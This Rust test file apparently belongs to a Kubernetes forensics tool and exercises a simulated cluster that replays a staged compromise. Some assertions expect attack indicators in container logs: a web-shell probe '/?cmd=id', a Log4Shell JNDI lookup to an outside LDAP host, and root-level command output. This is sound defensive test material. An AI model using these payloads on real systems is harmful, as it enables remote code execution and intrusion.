//! The in-process Kubernetes API, driven by the tool's own client.

mod logs;

use std::path::Path;

use forensys::{
    bundle::{Bundle, BundleWriter, FORMAT, Outcome, RunFile, SealStatus, State},
    cluster::{
        Cluster, ConnectArgs, Levels, ProblemKind, Resource,
        actions::Actions,
        exec::{ExecLimits, ExecOutcome, ExecTarget},
        history_frames::{Content, Decoder, Frame},
        history_script,
        list::Selectors,
        log_stream::LogRequest,
    },
    demo::{
        kubernetes::{Fault, Kubernetes, KubernetesHandle, Settings, serve},
        scenario::{self, BIG_LOG_POD, Denial, Options, Reach, Scenario},
    },
    evidence::{
        command_history::parse,
        log_lines::is_error_body,
        registry::{LISTINGS, PODS as PODS_LISTING},
    },
};
use serde_json::{Value, json};

const PODS: Resource = Resource { group: "", version: "v1", plural: "pods", kind: "Pod", namespaced: true };
const POLICIES: Resource = Resource {
    group: "networking.k8s.io",
    version: "v1",
    plural: "networkpolicies",
    kind: "NetworkPolicy",
    namespaced: true,
};
const WEB: &str = "web-6d5f8c9b7d-k2x9p";

/// A served recording and a client that signed in with the kubeconfig written for it.
struct Served {
    api: KubernetesHandle,
    cluster: Cluster,
    folder: tempfile::TempDir,
}

fn recording(options: Options) -> Scenario {
    scenario::compromise("2026-03-01T12:00:00.5Z".parse().unwrap(), options)
}

async fn served(settings: Settings) -> Served {
    let folder = tempfile::tempdir().unwrap();
    let api = Kubernetes::start(settings).await.unwrap();
    let kubeconfig = api.kubeconfig(folder.path()).unwrap();
    let cluster = client(&kubeconfig, folder.path()).await;
    Served { api, cluster, folder }
}

async fn client(kubeconfig: &Path, folder: &Path) -> Cluster {
    let args = ConnectArgs { kubeconfig: Some(kubeconfig.to_owned()), ..ConnectArgs::default() };
    let actions = Actions::open(&folder.join("actions.jsonl")).unwrap();
    args.resolve().await.unwrap().open(actions, "run-of-the-test", Levels { exec: true, ..Levels::default() }).unwrap()
}

async fn compromise() -> Served {
    served(Settings::new(recording(Options::default()))).await
}

impl Served {
    async fn log(&self, pod: &str, container: &str, previous: bool) -> String {
        let namespace = if pod.starts_with("metrics") { "kube-system" } else { "shop" };
        let request = LogRequest { previous, ..request(namespace, pod, container) };
        String::from_utf8_lossy(&self.read(&request).await.unwrap()).into_owned()
    }

    async fn read(&self, request: &LogRequest) -> Result<Vec<u8>, forensys::cluster::Problem> {
        let mut stream = self.cluster.log(request).await?;
        let mut body = Vec::new();
        while let Some(bytes) = stream.next().await? {
            body.extend_from_slice(&bytes);
        }
        Ok(body)
    }

    /// Another client, with a record of its own.
    async fn client(&self, record: &str) -> Cluster {
        let args = ConnectArgs { kubeconfig: Some(self.folder.path().join("kubeconfig")), ..ConnectArgs::default() };
        let actions = Actions::open(&self.folder.path().join(record)).unwrap();
        args.resolve().await.unwrap().open(actions, "run-of-the-test", Levels::default()).unwrap()
    }

    async fn names(&self, resource: &Resource, namespace: Option<&str>, labels: &str) -> Vec<String> {
        let selectors = Selectors { labels: Some(labels.to_owned()).filter(|labels| !labels.is_empty()), fields: None };
        let page = self.cluster.page(resource, namespace, &selectors, None).await.unwrap();
        let name =
            |item: &str| serde_json::from_str::<Value>(item).unwrap()["metadata"]["name"].as_str().unwrap().to_owned();
        page.items.iter().map(|item| name(item.get())).collect()
    }

    /// A request that the tool's own client has no words for.
    async fn raw(&self, target: &str) -> reqwest::Response {
        let request = reqwest::Client::new().get(format!("{}{target}", self.api.url()));
        request.bearer_auth(self.api.token()).send().await.unwrap()
    }
}

fn request(namespace: &str, pod: &str, container: &str) -> LogRequest {
    LogRequest {
        namespace: namespace.into(),
        pod: pod.into(),
        container: container.into(),
        previous: false,
        limit: None,
        since: None,
    }
}

fn config_pod(name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "many"}, "spec": {"containers": [{"name": "a"}]}})
}

#[tokio::test]
async fn the_client_learns_version_and_caller_and_its_requests_are_recorded() {
    let served = compromise().await;
    assert!(served.cluster.version().await.unwrap().starts_with("v1."));
    assert_eq!(served.cluster.whoami().await.unwrap(), "forensys-responder");
    let requests = served.api.requests();
    assert_eq!(requests[0].uri, "/version");
    assert!(requests.iter().all(|request| request.user_agent.ends_with("run/run-of-the-test")));
    let recorded = std::fs::read_to_string(served.folder.path().join("actions.jsonl")).unwrap();
    assert!(requests.iter().all(|request| recorded.contains(request.audit_id.as_deref().unwrap())));
}

#[tokio::test]
async fn a_wrong_token_is_not_accepted() {
    let served = compromise().await;
    let args = ConnectArgs { server: Some(served.api.url()), token: Some("other".into()), ..ConnectArgs::default() };
    let args = ConnectArgs { kubeconfig: Some(served.folder.path().join("kubeconfig")), ..args };
    let actions = Actions::open(&served.folder.path().join("other.jsonl")).unwrap();
    let cluster = args.resolve().await.unwrap().open(actions, "run", Levels::default()).unwrap();
    assert_eq!(cluster.version().await.unwrap_err().kind, ProblemKind::Unauthenticated);
}

#[tokio::test]
async fn pages_show_one_state_although_objects_come_and_go() {
    let served = compromise().await;
    for number in 0..1100 {
        assert!(served.api.put(config_pod(&format!("pod-{number:04}"))));
    }
    let none = Selectors::default();
    let mut seen = 0;
    let mut next = None;
    loop {
        let page = served.cluster.page(&PODS, Some("many"), &none, next.as_deref()).await.unwrap();
        seen += page.items.len();
        served.api.delete("pods", "many", &format!("pod-{seen:04}"));
        if page.metadata.next.is_empty() {
            break;
        }
        next = Some(page.metadata.next);
    }
    assert_eq!(seen, 1100);
    let lists = served.api.requests().iter().filter(|request| request.uri.contains("/many/pods?")).count();
    assert_eq!(lists, 3);
}

#[tokio::test]
async fn an_expired_continue_token_is_gone_and_the_answer_has_one_to_go_on_with() {
    let served = compromise().await;
    for number in 0..501 {
        served.api.put(config_pod(&format!("pod-{number:04}")));
    }
    let none = Selectors::default();
    let first = served.cluster.page(&PODS, Some("many"), &none, None).await.unwrap();
    served.api.inject(Fault::ExpireList("pods".into()));
    let target = format!("/api/v1/namespaces/many/pods?limit=500&continue={}", first.metadata.next);
    let status: Value = served.raw(&target).await.json().await.unwrap();
    assert_eq!((status["code"].as_u64(), status["reason"].as_str()), (Some(410), Some("Expired")));
    let rest = served.cluster.page(&PODS, Some("many"), &none, status["metadata"]["continue"].as_str()).await.unwrap();
    assert_eq!(rest.items.len(), 1);
    served.api.inject(Fault::ExpireList("pods".into()));
    let gone = served.cluster.page(&PODS, Some("many"), &none, Some(&first.metadata.next)).await.unwrap_err();
    assert_eq!(gone.kind, ProblemKind::Gone);
}

#[tokio::test]
async fn a_list_forbidden_in_the_cluster_is_allowed_in_namespaces() {
    let served = compromise().await;
    let none = Selectors::default();
    let denied = served.cluster.page(&POLICIES, None, &none, None).await.unwrap_err();
    assert_eq!(denied.kind, ProblemKind::Denied);
    assert!(
        denied.message.contains("\"networkpolicies\" in API group \"networking.k8s.io\" at the cluster scope"),
        "{denied}"
    );
    assert_eq!(served.names(&POLICIES, Some("shop"), "").await, ["allow-all"]);
    let denied = served.cluster.page(&POLICIES, Some("kube-system"), &none, None).await.unwrap_err();
    assert_eq!(denied.kind, ProblemKind::Denied);
}

#[tokio::test]
async fn rights_in_one_namespace_only_are_possible() {
    let denials = vec![Denial::new("*", Reach::OutsideNamespace("shop".into()))];
    let served = served(Settings { denials, ..Settings::new(recording(Options::default())) }).await;
    let denied = served.cluster.page(&PODS, None, &Selectors::default(), None).await.unwrap_err();
    assert_eq!(denied.kind, ProblemKind::Denied);
    assert!(served.names(&PODS, Some("shop"), "").await.contains(&WEB.to_owned()));
    let elsewhere = served.read(&request("default", "worker-7f6c9d8b5-9xkqz", "worker")).await.unwrap_err();
    assert_eq!(elsewhere.kind, ProblemKind::Denied);
}

#[tokio::test]
async fn labels_select() {
    let served = compromise().await;
    assert_eq!(served.names(&PODS, None, "k8s-app=kube-proxy").await, ["kube-proxy-4h6vq", "kube-proxy-x7"]);
    assert_eq!(served.names(&PODS, Some("shop"), "app in (web),!job-name").await, [WEB]);
}

#[tokio::test]
async fn each_instance_has_its_own_log_and_a_crash_loop_has_one() {
    let served = compromise().await;
    assert!(served.log(WEB, "web", false).await.contains("/?cmd=id"));
    assert!(served.log(WEB, "web", true).await.contains("${jndi:ldap://203.0.113.9:1389/a}"));
    assert!(served.log(WEB, "init", false).await.contains("migration finished"));
    assert!(served.log(WEB, "dbg", false).await.contains("uid=0(root)"));
    let current = served.log("metrics-agent-5c9f", "agent", false).await;
    assert!(current.contains("registering with"));
    assert_eq!(served.log("metrics-agent-5c9f", "agent", true).await, current);
}

#[tokio::test]
async fn a_log_from_a_time_on_misses_no_line_since_that_second() {
    let served = compromise().await;
    let whole = served.log(WEB, "web", false).await;
    let since = "2026-03-01T10:00:40.5Z".parse().unwrap();
    let part = served.read(&LogRequest { since: Some(since), ..request("shop", WEB, "web") }).await.unwrap();
    let part = String::from_utf8_lossy(&part).into_owned();
    assert!(whole.ends_with(&part) && part.len() < whole.len());
    assert!(part.contains("GET /?cmd=id HTTP/1.1") && !part.contains("listening on :8080"));
}

#[tokio::test]
async fn what_has_no_log_says_so_as_a_kubelet_does() {
    let served = compromise().await;
    let body = served.read(&request("shop", "report-29379080-zq7ln", "report")).await.unwrap();
    assert!(is_error_body(&body), "{}", String::from_utf8_lossy(&body));
    let waiting = served.read(&request("default", "tools", "tools")).await.unwrap_err();
    assert_eq!((waiting.kind, waiting.status), (ProblemKind::Refused, Some(400)));
    assert!(served.read(&request("default", "checkout-8d5f", "checkout")).await.unwrap().is_empty());
    let missing = served.read(&request("shop", "absent", "web")).await.unwrap_err();
    assert_eq!(missing.kind, ProblemKind::NotFound);
}

#[tokio::test]
async fn a_log_breaks_off_where_it_is_told_to_and_is_whole_the_next_time() {
    let served = compromise().await;
    served.api.inject(Fault::CutLog { namespace: "shop".into(), pod: WEB.into(), after: 700 });
    let mut stream = served.cluster.log(&request("shop", WEB, "web")).await.unwrap();
    let mut bytes = 0;
    let broken = loop {
        match stream.next().await {
            Ok(Some(piece)) => bytes += piece.len(),
            Ok(None) => panic!("a cut log must not end as if it were whole"),
            Err(problem) => break problem,
        }
    };
    assert_eq!(broken.kind, ProblemKind::Unreachable);
    assert!(bytes <= 700);
    assert!(served.log(WEB, "web", false).await.len() > 700);
}

#[tokio::test]
async fn a_refused_request_is_tried_again() {
    let served = compromise().await;
    served.api.inject(Fault::Answer { resource: "pods".into(), code: 429, retry_after: Some(0) });
    assert!(!served.names(&PODS, Some("shop"), "").await.is_empty());
    let codes: Vec<u16> = served.api.requests().iter().map(|request| request.status).collect();
    assert_eq!(codes, [429, 200]);
}

/// Runs a command to its end: what it printed, and how it ended.
async fn exec(
    served: &Served,
    pod: [&str; 3],
    command: &[String],
    limits: ExecLimits,
) -> Result<(Vec<u8>, ExecOutcome), forensys::cluster::Problem> {
    let [namespace, pod, container] = pod;
    let mut session = served.cluster.exec(ExecTarget { namespace, pod, container }, command, limits).await?;
    let mut printed = Vec::new();
    while let Some(piece) = session.next().await {
        printed.extend(piece);
    }
    Ok((printed, session.end().await?))
}

const LIMITS: ExecLimits = ExecLimits { wall: std::time::Duration::from_secs(60), bytes: 1 << 20 };

/// The whole files of an answer: user, path and content.
fn files_of(nonce: &str, output: &[u8]) -> Vec<(String, String, Vec<u8>)> {
    let mut decoder = Decoder::new(nonce);
    let frames = decoder.push(output).unwrap();
    assert!(decoder.has_begun() && decoder.is_whole());
    let file = |frame| match frame {
        Frame::File(file) => match file.content {
            Content::Bytes(bytes, true) => (file.user, file.path, bytes),
            other => panic!("{other:?}"),
        },
        other => panic!("{other:?}"),
    };
    frames.into_iter().map(file).collect()
}

#[tokio::test]
async fn histories_are_read_through_exec() {
    let served = compromise().await;
    let command = history_script::command("sh", "nonce-1");
    let (printed, ended) = exec(&served, ["shop", WEB, "web"], &command, LIMITS).await.unwrap();
    assert_eq!((ended.cut, ended.failure, ended.bytes), (None, None, printed.len() as u64));
    let files = files_of("nonce-1", &printed);
    assert_eq!((files.len(), files[0].0.as_str(), files[0].1.as_str()), (1, "root", "/root/.bash_history"));
    assert!(String::from_utf8_lossy(&files[0].2).contains("auth can-i --list"));

    let (printed, _) = exec(&served, ["shop", "builder-0", "builder"], &command, LIMITS).await.unwrap();
    let files = files_of("nonce-1", &printed);
    assert_eq!((files[0].0.as_str(), files.len()), ("deploy", 1));
}

#[tokio::test]
async fn an_exec_fails_as_the_container_is() {
    let served = compromise().await;
    let command = history_script::command("sh", "n");
    let distroless = ["kube-system", "coredns-7c65d6cfc9-w8kd2", "coredns"];
    let (_, ended) = exec(&served, distroless, &command, LIMITS).await.unwrap();
    assert!(ended.is_not_found(), "{ended:?}");
    let finished = exec(&served, ["shop", "report-29380460-h4wdm", "report"], &command, LIMITS).await;
    assert!(finished.is_err());
    let other = ["sh".into(), "-c".into(), "id".into()];
    let (_, ended) = exec(&served, ["shop", WEB, "web"], &other, LIMITS).await.unwrap();
    assert_eq!(ended.exit_code, Some(126), "{ended:?}");
}

#[tokio::test]
async fn an_exec_that_never_ends_is_given_up_and_what_it_printed_is_kept() {
    let served = compromise().await;
    served.api.inject(Fault::HangExec { namespace: "shop".into(), pod: WEB.into() });
    let command = history_script::command("sh", "n");
    let limits = ExecLimits { wall: std::time::Duration::from_millis(300), ..LIMITS };
    let (printed, ended) = exec(&served, ["shop", WEB, "web"], &command, limits).await.unwrap();
    assert!(ended.cut.as_ref().unwrap().contains("did not end within"), "{ended:?}");
    let mut decoder = Decoder::new("n");
    let mut frames = decoder.push(&printed).unwrap();
    frames.extend(decoder.finish());
    assert!(decoder.has_begun() && !decoder.is_whole());
    assert!(
        matches!(&frames[..], [Frame::File(file)] if matches!(&file.content, Content::Bytes(bytes, false) if !bytes.is_empty()))
    );
}

#[tokio::test]
async fn an_exec_that_is_forbidden_is_denied_and_not_failed() {
    let served = compromise().await;
    served.api.inject(Fault::Answer { resource: "pods/exec".into(), code: 403, retry_after: None });
    let command = history_script::command("sh", "n");
    let refused = exec(&served, ["shop", WEB, "web"], &command, LIMITS).await.unwrap_err();
    assert_eq!((refused.kind, refused.status), (ProblemKind::Denied, Some(403)));
}

#[tokio::test]
async fn an_exec_that_prints_more_than_it_may_is_given_up_and_recorded() {
    let served = compromise().await;
    let command = history_script::command("sh", "n");
    let limits = ExecLimits { bytes: 10, ..LIMITS };
    let (_, ended) = exec(&served, ["shop", WEB, "web"], &command, limits).await.unwrap();
    assert!(ended.cut.unwrap().contains("more than 10 bytes were printed; the process may still run"));
    let actions = fs_err::read_to_string(served.folder.path().join("actions.jsonl")).unwrap();
    assert!(actions.lines().any(|line| line.contains("\"may_still_run\":true")), "{actions}");
}

#[tokio::test]
async fn a_watch_goes_on_where_a_list_ended() {
    let served = compromise().await;
    let list: Value = served.raw("/api/v1/namespaces/many/pods").await.json().await.unwrap();
    let version = list["metadata"]["resourceVersion"].as_str().unwrap();
    served.api.put(config_pod("before-the-watch"));
    let mut watch = served.raw(&format!("/api/v1/namespaces/many/pods?watch=true&resourceVersion={version}")).await;
    served.api.put(config_pod("during-the-watch"));
    served.api.delete("pods", "many", "before-the-watch");
    let mut text = String::new();
    while text.lines().count() < 3 {
        text.push_str(std::str::from_utf8(&watch.chunk().await.unwrap().unwrap()).unwrap());
    }
    let events: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let seen: Vec<_> = events
        .iter()
        .map(|event| (event["type"].as_str().unwrap(), event["object"]["metadata"]["name"].as_str().unwrap()))
        .collect();
    assert_eq!(seen, [("ADDED", "before-the-watch"), ("ADDED", "during-the-watch"), ("DELETED", "before-the-watch")]);
    let too_old = served.raw("/api/v1/pods?watch=true&resourceVersion=1").await.text().await.unwrap();
    assert!(too_old.contains("\"ERROR\"") && too_old.contains("410"), "{too_old}");
}

#[tokio::test]
async fn a_large_log_has_the_size_that_was_asked_for_and_can_be_read_in_part() {
    let options = Options { big_log_bytes: Some(20_000_000) };
    let served = served(Settings::new(recording(options))).await;
    let mut stream = served.cluster.log(&request("default", BIG_LOG_POD, "writer")).await.unwrap();
    let (mut bytes, mut lines, mut largest) = (0, 0, 0);
    while let Some(piece) = stream.next().await.unwrap() {
        bytes += piece.len();
        largest = largest.max(piece.len());
        lines += piece.iter().filter(|&&byte| byte == b'\n').count();
    }
    assert_eq!((bytes, lines), (200_000 * 131, 200_000));
    assert!(largest < 1_000_000, "a frame of {largest} bytes");
    let since = "2026-01-01T00:03:00Z".parse().unwrap();
    let rest =
        served.read(&LogRequest { since: Some(since), ..request("default", BIG_LOG_POD, "writer") }).await.unwrap();
    assert!(rest.starts_with(b"2026-01-01T00:02:59.000000000Z 000000179000 "));
}

#[tokio::test]
async fn served_alone_it_writes_a_kubeconfig_and_ends_when_told() {
    let folder = tempfile::tempdir().unwrap();
    let (told, hears) = tokio::sync::oneshot::channel();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let at = folder.path().join("new");
    let task = tokio::spawn(async move {
        let tell = |served: &forensys::demo::kubernetes::Served| {
            told.send(served.clone()).map_err(|_| anyhow::anyhow!("nobody listens"))
        };
        serve(Settings::new(recording(Options::default())), &at, tell, async { drop(stopped.await) }).await
    });
    let served = hears.await.unwrap();
    assert!(served.instructions.contains(&served.kubeconfig.display().to_string()));
    client(&served.kubeconfig, folder.path()).await.version().await.unwrap();
    stop.send(()).unwrap();
    assert_eq!(task.await.unwrap().unwrap().len(), 1);
}

#[test]
fn scripted_gaps_are_known_by_their_words() {
    let gaps = scenario::expected_gaps();
    let known = |source, object, state| gaps.iter().filter(|gap| gap.is(source, object, state)).count();
    assert_eq!(known("networkpolicies", "networkpolicies of namespace kube-system", State::Denied), 1);
    assert_eq!(known("networkpolicies", "networkpolicies of namespace shop", State::Denied), 0);
    assert_eq!(known("logs", "shop/report-29379080-zq7ln container report", State::Failed), 1);
    assert_eq!(known("logs", "shop/report-29379080-zq7ln container report", State::Truncated), 0);
}

/// Rows of every list, as collecting makes them.
async fn rows_of_lists(served: &Served) -> Vec<(String, Value)> {
    let run: RunFile = serde_json::from_value(json!({"format": FORMAT, "run_id": "01JTEST", "tool": "test", "demo": true,
        "started": "2026-03-01T12:00:00Z", "operator": {"login": "", "host": ""}, "server": "", "window": {}, "settings": {}}))
    .unwrap();
    let dir = served.folder.path().join("bundle");
    let writer = BundleWriter::create(&dir, run).unwrap();
    for listing in LISTINGS.iter().chain([&PODS_LISTING]) {
        let mut unit = writer.unit(listing.source().name(), "list", &[listing.resource().plural]);
        for namespace in ["default", "kube-system", "monitoring", "shop"] {
            let Ok(page) = served.cluster.page(&listing.resource(), Some(namespace), &Selectors::default(), None).await
            else {
                continue;
            };
            page.items.iter().for_each(|item| listing.emit(item.get(), &mut unit).unwrap());
            if !listing.resource().namespaced {
                break;
            }
        }
        unit.finish(Outcome::complete()).await.unwrap();
    }
    writer.seal(SealStatus::Complete).await.unwrap();
    let bundle = Bundle::open(&dir).unwrap();
    let mut rows = Vec::new();
    for table in bundle.tables() {
        for part in bundle.parts(&table) {
            let lines = std::io::BufRead::lines(bundle.read_part(part).unwrap());
            rows.extend(lines.map(|line| (table.clone(), serde_json::from_str(&line.unwrap()).unwrap())));
        }
    }
    rows
}

/// Lines of logs and commands of histories, under their columns' names.
async fn rows_of_containers(served: &Served) -> Vec<(String, Value)> {
    let mut rows = Vec::new();
    for container in recording(Options::default()).containers {
        let (namespace, pod, name) = (&container.namespace, &container.pod, &container.container);
        let row = |column: &str, text: &[u8]| json!({"namespace": namespace, "pod_name": pod, "container_name": name, column: String::from_utf8_lossy(text)});
        for previous in [false, true] {
            let asked = LogRequest { previous, ..request(namespace, pod, name) };
            let body = served.read(&asked).await.unwrap_or_default();
            rows.extend(body.split(|&byte| byte == b'\n').map(|line| ("kubelogs_CL".into(), row("message", line))));
        }
        let command = history_script::command("sh", "n");
        let Ok((printed, ended)) = exec(served, [namespace, pod, name], &command, LIMITS).await else { continue };
        if ended.failure.is_some() {
            continue;
        }
        for (_, path, content) in files_of("n", &printed) {
            let commands = parse(&path, &content);
            rows.extend(commands.iter().map(|command| ("commandhistory_CL".into(), row("command", &command.bytes))));
        }
    }
    rows
}

#[tokio::test]
async fn every_finding_of_the_story_is_shown_by_a_row() {
    let served = compromise().await;
    let mut rows = rows_of_lists(&served).await;
    rows.extend(rows_of_containers(&served).await);
    for finding in scenario::story() {
        let shown = rows.iter().any(|(table, row)| finding.is_shown_by(table, row));
        assert!(shown, "no row of {} shows: {}", finding.table, finding.words);
    }
}
